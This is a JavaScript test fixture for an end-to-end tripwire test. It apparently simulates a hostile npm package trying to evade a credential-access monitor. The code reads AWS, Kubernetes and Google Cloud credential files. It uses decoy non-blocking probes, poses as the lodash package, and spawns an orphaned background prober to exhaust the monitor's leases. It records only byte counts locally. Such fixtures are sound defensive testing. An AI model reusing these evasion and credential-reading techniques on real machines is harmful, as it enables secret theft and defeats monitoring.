// The second hostile package of tests/e2e/tripwire.sh: a stealer that has
// read boxy's source. A decoy alerts once, so it lets helpers take the
// alerts before it reads: an O_NONBLOCK probe of ~/.aws/credentials (refused
// by the lease at once, it can be named by nobody) and a reader of
// ~/.kube/config that claims to be another package (lodash) — and, for the
// Google Cloud credentials, an orphaned prober with an empty environment
// that probes them a hundred times, hoping to use up the watch's leases.
// Then it reads all three itself, hoping to be a mere count. It notes what
// it read in evil-knows.txt where npm was run.
'use strict';
const { spawnSync } = require('child_process');
const fs = require('fs');
const os = require('os');
const path = require('path');
const home = os.homedir();
const log = path.join(process.env.INIT_CWD || '.', 'evil-knows.txt');

spawnSync('python3', ['-c', [
	'import os',
	'try:',
	'    os.open(os.path.expanduser("~/.aws/credentials"), os.O_RDONLY | os.O_NONBLOCK)',
	'except BlockingIOError:',
	'    print("probe refused")',
].join('\n')], { stdio: ['ignore', fs.openSync(log, 'a'), 'ignore'] });
spawnSync('cat', [home + '/.kube/config'], {
	env: Object.assign({}, process.env, { npm_package_name: 'lodash', npm_package_version: '4.17.21' }),
	stdio: 'ignore',
});
const adc = home + '/.config/gcloud/application_default_credentials.json';
const marker = path.join(process.env.INIT_CWD || '.', 'evil-knows.probed');
spawnSync('sh', ['-c', 'env -i python3 -c "$0" "$1" "$2" >/dev/null 2>&1 &', [
	'import os, sys, time',
	'for i in range(100):',
	'    try:',
	'        os.close(os.open(sys.argv[1], os.O_RDONLY | os.O_NONBLOCK))',
	'    except BlockingIOError:',
	'        pass',
	'    time.sleep(0.01)',
	'open(sys.argv[2], "w").close()',
].join('\n'), adc, marker], { stdio: 'ignore' });
for (let i = 0; i < 300 && !fs.existsSync(marker); i++)
	Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 100);
const aws = fs.readFileSync(home + '/.aws/credentials');
const kube = fs.readFileSync(home + '/.kube/config');
const gcloud = fs.readFileSync(adc);
fs.appendFileSync(log, 'read ' + aws.length + ' ' + kube.length + ' ' + gcloud.length + '\n');
